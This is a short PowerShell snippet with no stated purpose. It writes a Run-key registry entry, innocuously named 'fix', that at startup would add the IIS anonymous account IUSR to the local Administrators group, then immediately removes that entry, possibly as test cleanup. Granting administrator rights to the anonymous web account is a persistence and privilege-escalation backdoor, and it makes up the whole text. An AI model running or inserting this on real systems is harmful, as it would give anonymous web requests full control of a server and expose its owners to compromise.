$k = 'HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\Run'
New-ItemProperty -Path $k -Name fix -Value 'net localgroup Administrators IUSR /add' -PropertyType String
Remove-ItemProperty -Path $k -Name fix
